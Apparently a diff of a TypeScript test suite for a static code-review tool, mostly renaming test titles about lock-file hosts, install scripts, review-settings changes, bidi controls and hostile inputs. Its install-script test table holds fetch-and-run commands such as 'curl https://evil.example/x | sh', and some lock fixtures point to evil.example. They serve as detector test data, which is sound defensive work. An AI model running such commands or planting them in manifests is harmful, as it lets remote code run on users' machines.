@@ -52,7 +52,7 @@ describe('each rule', () => {
       }
     })
 
-    it(`${rule} is silent about near misses in ${file}`, async () => {
+    it(`${rule} reports nothing for near misses in ${file}`, async () => {
       for (const text of silent) {
         const findings = await review({ [file]: `${text}\n` })
         expect(
@@ -63,7 +63,7 @@ describe('each rule', () => {
     })
   }
 
-  it('that reads lines is one of those that run without parsing', () => {
+  it('lists exactly the line rules as rules that run without parsing', () => {
     expect(lineRules).toEqual(rules.filter((rule) => rule.line !== undefined))
   })
 
@@ -110,7 +110,7 @@ function expectWellFormed(finding: ProposedFinding, text: string): void {
   for (const secret of secretsOfSamples) expect(all).not.toContain(secret)
 }
 
-describe('manifests and lock files', () => {
+describe('the rules for manifests and lock files', () => {
   const lock = (packages: object) => `${JSON.stringify({ packages }, null, 1)}\n`
   const entry = (host: string, more: object = {}) => ({
     resolved: `https://${host}/a.tgz`,
@@ -125,7 +125,7 @@ describe('manifests and lock files', () => {
     return report.findings.map(({ rule, severity, title }) => `${rule} ${severity}: ${title}`)
   }
 
-  it('case 72: know the hosts of the lock file and of the registry settings on the base', async () => {
+  it("case 72: trust the hosts of the base's lock file and registry settings", async () => {
     const before = lock({ 'node_modules/a': entry('npm.acme.example') })
     const after = lock({
       'node_modules/a': entry('npm.acme.example'),
@@ -146,7 +146,7 @@ describe('manifests and lock files', () => {
     ).toEqual([])
   })
 
-  it('case 72: know nothing of what the change itself brings along, nor of another package world', async () => {
+  it('case 72: do not trust hosts from the change itself or from another ecosystem', async () => {
     const before = lock({})
     const after = lock({ 'node_modules/a': entry('evil.example') })
     const settings = { '.npmrc': 'registry=https://evil.example/\n' }
@@ -164,7 +164,7 @@ describe('manifests and lock files', () => {
     ).toHaveLength(1)
   })
 
-  it('case 72: a new install script is minor, and one that was there before is none', async () => {
+  it('case 72: report a new install script as minor, and an existing one not at all', async () => {
     const before = lock({ 'node_modules/a': entry(npm, { hasInstallScript: true }) })
     const after = lock({
       'node_modules/b/node_modules/a': entry(npm, { hasInstallScript: true, version: '2.0.0' }),
@@ -180,7 +180,7 @@ describe('manifests and lock files', () => {
     ['node -e "require(1)"', 'moderate'],
     ['curl -o x https://evil.example/x', 'moderate'],
     ['curl https://evil.example/x | sh', 'critical'],
-  ])('case 71: a script %s that is run at an installation is %s', async (command, severity) => {
+  ])('case 71: report an install script %s as %s', async (command, severity) => {
     const manifest = `${JSON.stringify({ scripts: { postinstall: command } }, null, 1)}\n`
     const found = await find({ 'package.json': '{}\n' }, { 'package.json': manifest })
     expect(found.filter((each) => each.startsWith('install-script'))).toEqual([
@@ -193,7 +193,7 @@ describe('manifests and lock files', () => {
     expect(other.filter((each) => each.startsWith('install-script'))).toEqual([])
   })
 
-  describe('whose entries do not fit', () => {
+  describe('with entries that do not match', () => {
     const registry = (name: string, more: object = {}) => ({
       version: '1.0.0',
       resolved: `https://${npm}/${name}/-/${name.split('/').at(-1)}-1.0.0.tgz`,
@@ -208,7 +208,7 @@ describe('manifests and lock files', () => {
       )
     }
 
-    it('case 72: another content of the same version is a finding', async () => {
+    it('case 72: report different content of the same version', async () => {
       const title = 'The content of `a` changed, and its version did not'
       const found = [`lock-mismatch moderate: ${title}`]
       expect(await compare(registry('a'), registry('a', { integrity: 'sha512-new' }))).toEqual(
@@ -222,7 +222,7 @@ describe('manifests and lock files', () => {
       ['one hash more', { integrity: 'sha512-new sha512-old' }],
       ['a git dependency', { resolved: `git+ssh://git@${npm}/a.git#2`, integrity: 'sha512-new' }],
       ['a file of the repository', { resolved: 'file:vendor/a.tgz', integrity: 'sha512-new' }],
-    ])('case 72: %s is none', async (_name, more) => {
+    ])('case 72: report nothing for %s', async (_name, more) => {
       const found = await compare(
         registry('a', 'resolved' in more ? { resolved: more.resolved } : {}),
         registry('a', more),
@@ -230,7 +230,7 @@ describe('manifests and lock files', () => {
       expect(found.filter((each) => each.startsWith('lock-mismatch'))).toEqual([])
     })
 
-    it('case 72: an alias that the manifest or the base has is none', async () => {
+    it('case 72: report no alias that the manifest or the base has', async () => {
       const alias = registry('b', { name: 'b' })
       const overrides = { overrides: { c: { a: 'npm:b@1.0.0' } } }
       expect(await compare(registry('a'), alias, overrides)).toEqual([])
@@ -240,7 +240,7 @@ describe('manifests and lock files', () => {
     })
   })
 
-  it('an alias in a manifest is minor once, and its next version is none', async () => {
+  it('report a new alias in a manifest as minor once, and not its next version', async () => {
     const manifest = (a: string) => `${JSON.stringify({ dependencies: { a } }, null, 1)}\n`
     const change = (before: string, after: string) =>
       find({ 'package.json': manifest(before) }, { 'package.json': manifest(after) })
@@ -251,7 +251,7 @@ describe('manifests and lock files', () => {
     expect(await change('^1.0.0', '^1.1.0')).toEqual([])
   })
 
-  it('that cannot be read are a finding', async () => {
+  it('report unreadable files', async () => {
     const change = addedFiles({
       'yarn.lock': `a:\n  resolved "https://evil.example/a"\n${'#'.repeat(17 << 20)}\n`,
     })
@@ -279,7 +279,7 @@ describe('settings of later reviews', () => {
   }
   const rule = 'review-settings-change'
 
-  it('are reported once a file, on the line that matters', async () => {
+  it('reports them once per file, on the relevant line', async () => {
     const before = 'mode: parallel\n# Ours\n'
     const after = 'mode: parallel\n# More\ngate: [incomplete]\npaths: {}\n'
     expect(await find({ '.umpire.yml': before }, { '.umpire.yml': after })).toEqual([
@@ -293,7 +293,7 @@ describe('settings of later reviews', () => {
   it.each([
     ['docs/old.yml', '.umpire.yml'],
     ['.github/CODEOWNERS', 'docs/owners.txt'],
-  ])('are reported where %s only moves to %s', async (oldPath, path) => {
+  ])('reports a move from %s to %s', async (oldPath, path) => {
     const change = addedFiles({ [path]: 'a\n' })
     const moved = {
       ...change,
@@ -308,7 +308,7 @@ describe('settings of later reviews', () => {
     expect(findings).toMatchObject([{ rule, path, side: 'RIGHT', startLine: 1 }])
   })
 
-  it('are reported where lines only go', async () => {
+  it('reports removed lines', async () => {
     const owners = '* @acme/all\n/src/pay @acme/pay\n'
     expect(await find({ CODEOWNERS: owners }, { CODEOWNERS: '* @acme/all\n' })).toEqual([
       [rule, 'CODEOWNERS', 'LEFT', 2, '/src/pay @acme/pay'],
@@ -323,7 +323,7 @@ describe('settings of later reviews', () => {
 })
 
 describe('security rules on text', () => {
-  it('case 77: look at tests, and at files of every name', async () => {
+  it('case 77: read tests, and files of any name', async () => {
     const text = `${readMarks(textSamples[0]!.fires[0]!).text}`
     for (const path of [
       'src/a.test.ts',
@@ -340,7 +340,7 @@ describe('security rules on text', () => {
   })
 
   it.each(['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'])(
-    'case 77: %j that nothing ends is critical in a program, whatever its language',
+    'case 77: report an unterminated %j in code as critical in every language',
     async (control) => {
       for (const path of [
         'a.c',
@@ -378,28 +378,28 @@ describe('suggestions', () => {
     )
   })
 
-  it('make a default of Python in the function', async () => {
+  it('create a default of Python inside the function', async () => {
     expect(
       await suggestion('a.py', 'def add(item, items: list = []):\n    items.append(item)\n'),
     ).toBe('def add(item, items: list | None = None):\n    if items is None:\n        items = []')
   })
 
-  it('count columns in the units of the text, also after characters outside of the BMP', async () => {
+  it('count columns in UTF-16 units, also after characters outside of the BMP', async () => {
     expect(await suggestion('src/a.ts', "const x = '😀é'; if (a === NaN) stop('😀')\n")).toBe(
       "const x = '😀é'; if (Number.isNaN(a)) stop('😀')",
     )
   })
 })
 
-it('says all that is wrong with a pattern for dates', async () => {
+it('report every error in a date pattern', async () => {
   const [finding] = await review({
     'src/A.java': 'class A { Object f = DateTimeFormatter.ofPattern("YYYY-mm-dd"); }\n',
   })
   expect(finding!.body).toMatch(/year of the week.*`mm` are the minutes/)
 })
 
-describe('what is looked at', () => {
-  it('is the added lines only, with the rest of the file as background', async () => {
+describe('the reviewed lines', () => {
+  it('are the added lines only, with the rest of the file as context', async () => {
     const before = 'async function send() { await post() }\nif (a === NaN) stop()\n'
     const after = `${before}export async function run() {\n  send()\n}\n`
     const change = changeOf({ 'src/a.ts': before }, { 'src/a.ts': after })
@@ -414,7 +414,7 @@ describe('what is looked at', () => {
     })
   })
 
-  it('follows a named import to the file in the repository that defines it', async () => {
+  it('follow a named import to the file in the repository that defines it', async () => {
     const files = {
       'src/mail.ts':
         'import x from "y"\n\nexport async function send(to: string) { await post(to) }\nexport function note() {}\nexport async function track(to: string) {\n  try {\n    await post(to)\n  } catch (error) {\n    report(error)\n  }\n}\n',
@@ -443,7 +443,7 @@ export async function other(deliver: (id: string) => void) {
     )
   })
 
-  it('is not a test, a deleted file, or a language without rules', async () => {
+  it('exclude tests, deleted files, and languages without rules', async () => {
     const text = 'if (a === NaN) stop()\n'
     expect(
       await review({ 'test/a.test.ts': text, 'src/__tests__/b.js': text, 'a.rs': text }),
@@ -454,14 +454,14 @@ export async function other(deliver: (id: string) => void) {
     ).toEqual([])
   })
 
-  it('is right in files with CRLF', async () => {
+  it('are correct in files with CRLF', async () => {
     const findings = await review({ 'src/a.ts': 'const a = 1\r\nif (a === NaN) stop()\r\n' })
     expect(findings.map((finding) => [finding.rule, finding.startLine])).toEqual([
       ['nan-comparison', 2],
     ])
   })
 
-  it('leaves out rules that are switched off', async () => {
+  it('omit rules that are switched off', async () => {
     await using quiet = createStaticReviewer({ disabledRules: ['nan-comparison'] })
     const change = addedFiles({ 'src/a.ts': 'if (a === NaN) stop()\n' })
     expect(
@@ -470,7 +470,7 @@ export async function other(deliver: (id: string) => void) {
   })
 })
 
-describe('what is read as text only', () => {
+describe('files that are read as text only', () => {
   const textOnlyOf = async (files: Record<string, string>) => {
     const report = await reviewer.review(
       addedFiles(files),
@@ -481,7 +481,7 @@ describe('what is read as text only', () => {
     return report.textOnly
   }
 
-  it('is every file whose language has no rules, tests too', async () => {
+  it('include every file whose language has no rules, tests too', async () => {
     const files = {
       'm.rb': 'eval(params[:x])\n',
       'b.md': 'b\n',
@@ -495,7 +495,7 @@ describe('what is read as text only', () => {
     ])
   })
 
-  it('are files whose added lines lie in a syntax error', async () => {
+  it('include files whose added lines contain a syntax error', async () => {
     const files = {
       'bad.py': 'from x import (\n a b\n',
       'bad.ts': 'export function ( {{{\n',
@@ -508,7 +508,7 @@ describe('what is read as text only', () => {
     ])
   })
 
-  it('are not files with an error elsewhere', async () => {
+  it('exclude files with an error elsewhere', async () => {
     const before = 'const a = 1 1 = ;\n\nfunction b() {\n  return 1\n}\n'
     const change = changeOf({ 'src/a.ts': before }, { 'src/a.ts': `${before}export const c = 1\n` })
     const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
@@ -519,7 +519,7 @@ describe('what is read as text only', () => {
 describe('too many findings', () => {
   const many = `${'breakpoint()\n'.repeat(150)}<<<<<<< ours\n`
 
-  it('are cut to the worst 100 of a file, and the others counted', async () => {
+  it('are limited to the worst 100 of a file, and the others counted', async () => {
     const change = addedFiles({ 'src/many.py': many, 'src/one.py': 'breakpoint()\n' })
     const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
     const lines = report.findings
@@ -533,7 +533,7 @@ describe('too many findings', () => {
     expect(report).toMatchObject({ complete: true, unread: ['src/many.py'] })
   })
 
-  it('are cut to the worst 500 of a review', async () => {
+  it('are limited to the worst 500 of a review', async () => {
     const files = Array.from({ length: 7 }, (_, index) => [
       `src/${index}.py`,
       `${'breakpoint()\n'.repeat(80)}`,
@@ -549,7 +549,7 @@ describe('too many findings', () => {
     expect(report.unread).toHaveLength(7)
   })
 
-  it('are not those of rules that are switched off', async () => {
+  it('exclude those of rules that are switched off', async () => {
     await using quiet = createStaticReviewer({ disabledRules: ['breakpoint'] })
     const report = await quiet.review(
       addedFiles({ 'src/many.py': many }),
@@ -578,7 +578,7 @@ describe('very large changes', () => {
   const [key] = secretsOfSamples
   const reason = 'the change is too large for the rules to parse all of it: searched as text only'
 
-  it('case 81: are parsed up to a number of files; of the others the added lines are read, and the review says so', async () => {
+  it('case 81: are parsed up to a file limit, others read as added lines with a note', async () => {
     await using bounded = createStaticReviewer({ maxParsed: { files: 2, bytes: 1_000_000 } })
     const text = `if (a === NaN) stop()\nconst id = '${key}'\n`
     const change = addedFiles({
@@ -601,7 +601,7 @@ describe('very large changes', () => {
     expect(report.complete).toBe(false)
   })
 
-  it('case 81: are parsed up to a number of bytes', async () => {
+  it('case 81: are parsed up to a byte limit', async () => {
     await using bounded = createStaticReviewer({ maxParsed: { files: 100, bytes: 20 } })
     const text = 'if (a === NaN) stop()\n'
     const change = addedFiles({ 'a.ts': text, 'b.ts': text })
@@ -615,7 +615,7 @@ describe('very large changes', () => {
     expect(report.complete).toBe(false)
   })
 
-  it('case 81: leave the threads to others by turns', async () => {
+  it('case 81: share the threads with other reviews', async () => {
     await using reviewerOfOne = createStaticReviewer({ threads: 1, fileDeadlineMs: 20_000 })
     const files = (count: number) =>
       Object.fromEntries(Array.from({ length: count }, (_, at) => [`src/${at}.ts`, 'let a = 1\n']))
@@ -637,7 +637,7 @@ describe('very large changes', () => {
 describe('hostile files', () => {
   const sound = { 'src/sound.ts': 'if (a === NaN) stop()\n' }
 
-  it('case 38: a minified line of 20 MB is not read, and the review says so', async () => {
+  it('case 38: a minified line of 20 MB is skipped, and the review reports it', async () => {
     const change = addedFiles({ ...sound, 'src/big.js': `${'a();'.repeat(5_000_000)}\n` })
     const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
     expect(report.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
@@ -645,7 +645,7 @@ describe('hostile files', () => {
     expect(report.complete).toBe(false)
   })
 
-  it('case 39: a file that takes the parser too long is cut off, named, and the others are reviewed', async () => {
+  it('case 39: a file that exceeds the parsing time is named, others are reviewed', async () => {
     await using impatient = createStaticReviewer({ threads: 1, fileDeadlineMs: 5 })
     const hostile = addedFiles({ 'src/brackets.ts': `${'['.repeat(300_000)}\n` })
     const report = await impatient.review(hostile, emptyContext, AbortSignal.timeout(60_000))
@@ -659,7 +659,7 @@ describe('hostile files', () => {
     expect(both.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
   })
 
-  it('case 39: a thread that hangs is ended and replaced, and the next file is reviewed', async () => {
+  it('case 39: a hanging thread is replaced, and the next file is reviewed', async () => {
     const open = '('.repeat(4_000)
     const hanging = `const f = async () => { list.forEach(async () => ${open}${'await x,'.repeat(8_000)}1${')'.repeat(4_000)}) }\n`
     await using reviewerOfOne = createStaticReviewer({
@@ -673,7 +673,7 @@ describe('hostile files', () => {
     expect(report.findings.map((finding) => finding.path)).toEqual(['src/sound.ts'])
   })
 
-  it('case 39: a thread that a file was too much for is replaced, with the memory it took', async () => {
+  it('case 39: a thread that ran out of memory is replaced', async () => {
     const threads: { exited: Promise<unknown> }[] = []
     const note = (thread: Worker) => threads.push({ exited: once(thread, 'exit') })
     process.on('worker', note)
@@ -703,7 +703,7 @@ describe('hostile files', () => {
     ])
   })
 
-  it('case 39: a workflow file that takes too long is cut off after the time of a file', async () => {
+  it('case 39: a slow workflow file is aborted at the time limit of a file', async () => {
     await using impatient = createStaticReviewer({ threads: 1, fileDeadlineMs: 1, graceMs: 0 })
     const workflow = `jobs:\n${'  a: { runs-on: x, steps: [] }\n'.repeat(15_000)}`
     const change = addedFiles({ '.github/workflows/slow.yml': workflow })
@@ -749,7 +749,7 @@ describe('hostile files', () => {
     ['many strings', `const a = ${"'password: x' + ".repeat(10_000)}''`],
     ['nested functions', `${'async () => { await '.repeat(5_000)}x${'}'.repeat(5_000)}`],
     ['NUL and invalid characters', `const a\0 = '\uFFFD'; \u202E`],
-  ])('case 39: %s end in time, with or without an answer', async (_name, text) => {
+  ])('case 39: %s finish in time, with or without a result', async (_name, text) => {
     const change = addedFiles({
       'src/hostile.ts': `${text}\n`,
       'src/hostile.py': `${text}\n`,
@@ -762,7 +762,7 @@ describe('hostile files', () => {
     )
   })
 
-  it('a line that is made to backtrack costs no more than others', async () => {
+  it('a line that causes backtracking costs no more than others', async () => {
     const lines = [
       'eyJ-'.repeat(500),
       'password'.repeat(250),
@@ -782,7 +782,7 @@ describe('hostile files', () => {
     expect(report.complete).toBe(false)
   })
 
-  it('stops when the signal does', async () => {
+  it('the review stops at the signal', async () => {
     await expect(
       reviewer.review(addedFiles(sound), emptyContext, AbortSignal.abort()),
     ).rejects.toThrow('aborted')
